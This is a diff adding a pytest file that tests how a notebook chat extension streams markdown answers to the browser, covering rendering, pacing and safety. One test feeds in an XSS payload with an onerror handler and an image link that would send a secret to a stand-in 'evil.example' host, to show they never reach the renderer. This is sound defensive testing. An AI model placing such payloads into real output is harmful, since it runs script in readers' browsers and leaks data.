@@ -1,0 +1,162 @@
+"""The live answer rendered by the browser: what the kernel sends, and what a reader then sees.
+
+`tests/live_browser.py` applies every message as `live_markdown.js` does; here each document it
+would render is judged (markdown-it for fidelity, marked for safety in tests/test_safety.py),
+and the costs are counted on a simulated clock. tests/test_browser.py runs the script itself in
+JupyterLab and Notebook 7.
+"""
+
+from __future__ import annotations
+
+import itertools
+
+import pytest
+
+from chatnb.display import MarkdownStream
+from chatnb.live_tail import CHECK_INTERVAL_S, TailCheck
+from chatnb.markdown import MarkdownSplitter, render
+from chatnb.mock.replies import markdown_sample
+
+from .corpus import ANSWERS
+from .live_browser import LiveBrowser
+from .test_markdown import unsafe_tokens
+
+
+def stream(text: str, *, step: int = 4, seconds: float = 0.01, safe: bool = True) -> LiveBrowser:
+    """``text`` streamed ``step`` characters at a time, one piece every ``seconds``."""
+    now = [0.0]
+    browser = LiveBrowser()
+    live = MarkdownStream(safe, sink=browser, clock=lambda: now[0])  # type: ignore[arg-type]
+    for at in range(0, len(text), step):
+        now[0] += seconds
+        live.feed(text[at : at + step])
+    live.close()
+    return browser
+
+
+@pytest.mark.parametrize("name", ANSWERS)
+def test_the_frozen_parts_render_as_the_whole_answer(name: str) -> None:
+    text = ANSWERS[name]
+    browser = stream(text, step=3, seconds=1.0)  # an update after every piece
+    assert browser.outputs == [MarkdownStream_whole(text)]
+    widget = browser.widgets[0]
+    assert widget.closed and widget.text == ""  # everything was frozen or handed over
+    final = browser.states[-1]
+    if not MarkdownSplitter_revised(text):
+        # Each part rendered on its own, one after the other, is the whole answer's HTML.
+        assert "".join(render(part) for part in final.parts) + render(final.tail) == render(
+            browser.outputs[0]
+        )
+
+
+def MarkdownStream_whole(text: str) -> str:
+    splitter = MarkdownSplitter(allow_html=False, allow_remote_images=False)
+    splitter.feed(text)
+    return splitter.whole()
+
+
+def MarkdownSplitter_revised(text: str) -> bool:
+    splitter = MarkdownSplitter(allow_html=False, allow_remote_images=False)
+    for at in range(0, len(text), 3):
+        splitter.feed(text[at : at + 3])
+        splitter.advance()
+    splitter.advance(final=True)
+    return splitter.revised
+
+
+def test_text_crosses_the_wire_once_and_messages_stay_under_25_a_second() -> None:
+    text = markdown_sample(40_000, 7)
+    browser = stream(text, step=4, seconds=0.01)  # 100 tokens a second
+    seconds = len(range(0, len(text), 4)) * 0.01
+    appended = "".join(m.get("append", "") for m in browser.messages)
+    assert appended == text
+    part_markdown = sum(
+        len(p.get("markdown", "").encode()) for m in browser.messages for p in m.get("freeze", [])
+    )
+    live_bytes = len(appended.encode()) + part_markdown
+    assert live_bytes + len(browser.outputs[0].encode()) <= 3 * len(text.encode())
+    assert len(browser.messages) <= 25 * seconds
+    assert sum(len(m.get("freeze", [])) for m in browser.messages) > 20  # parts frozen as they end
+
+
+def test_the_tail_renders_as_it_arrives_in_plain_answers() -> None:
+    # Nothing to escape or rewrite: every state renders all the text that arrived.
+    text = "# Title\n\nSome **bold** words and a [link](https://example.com/a).\n\n" * 20
+    text = text.replace("[link](https://example.com/a)", "link")
+    browser = stream(text, step=5, seconds=0.05)
+    assert all(state.plain == "" for state in browser.states)
+
+
+def test_unsafe_text_never_reaches_the_renderer_while_it_streams() -> None:
+    text = (
+        "Intro.\n\nA paragraph with <img src=x onerror=alert(1)> inside it, and more words "
+        "after it, then ![leak](https://evil.example/?q=secret) and the end.\n\nNext.\n"
+    )
+    browser = stream(text, step=2, seconds=0.05)
+    for document in browser.rendered:
+        assert unsafe_tokens(document) == [], document
+    # The text was shown all the same, as plain text until its block was finished.
+    assert any("onerror" in state.plain for state in browser.states)
+
+
+def test_open_display_math_shows_as_plain_code_text_until_it_closes() -> None:
+    text = "Expand it:\n\n$$\nf(x) = x^2\n- 2x + 1\n$$\n\nDone.\n"
+    browser = stream(text, step=1, seconds=1.0)
+    open_states = [s for s in browser.states if s.plain.startswith("$$\n")]
+    assert open_states and all(s.math for s in open_states)
+    assert all(s.tail.count("$$") % 2 == 0 for s in browser.states)  # no half math rendered
+    assert browser.outputs[0].count("$$") == 2
+
+
+def test_a_table_header_row_waits_for_its_delimiter_row_and_then_grows_row_by_row() -> None:
+    text = "Results:\n\n| x | f(x) |\n|---|---|\n" + "".join(
+        f"| {i} | {i * i} |\n" for i in range(30)
+    )
+    browser = stream(text, step=2, seconds=1.0)
+    for state in browser.states:
+        assert "<p>|" not in render(state.tail), state  # never a paragraph of pipes
+    rows = [
+        render(state.tail).count("<tr>")
+        for state in browser.states
+        if "<table>" in render(state.tail)
+    ]
+    assert rows == sorted(rows) and rows[-1] >= 25  # the open table grew row by row
+
+
+def test_a_tail_with_triggers_is_checked_at_most_every_interval() -> None:
+    # A 400 KB paragraph with a "!" in every sentence: checking costs O(tail), so it is paced.
+    now = [0.0]
+    checked: list[int] = []
+
+    def shown_as_fed(text: str) -> bool:
+        checked.append(len(text))
+        return True
+
+    check = TailCheck(shown_as_fed, lambda: now[0])
+    tail = ""
+    for _ in range(100_000):
+        tail += "Yes! "
+        now[0] += 0.01
+        plain, _ = check.plain_from(tail)
+        assert plain is None or plain <= len(tail)
+    assert len(checked) <= 100_000 * 0.01 / CHECK_INTERVAL_S + 1
+    # What waits for the next check is what arrived since the last one: a quarter second.
+    assert plain is None or len(tail) - plain <= 5 * CHECK_INTERVAL_S / 0.01 + 5
+
+
+def test_a_tail_found_unsafe_is_checked_again_only_after_it_grew_by_an_eighth() -> None:
+    now = [0.0]
+    checked: list[int] = []
+
+    def shown_as_fed(text: str) -> bool:
+        checked.append(len(text))
+        return False
+
+    check = TailCheck(shown_as_fed, lambda: now[0])
+    tail = "<b onclick=x>"
+    for _ in range(2_000):
+        tail += "word "
+        now[0] += 1.0
+        assert check.plain_from(tail) == (0, False)  # plain from the first "<"
+    growth = [b / a for a, b in itertools.pairwise(checked)]
+    assert all(g >= 1.125 for g in growth)
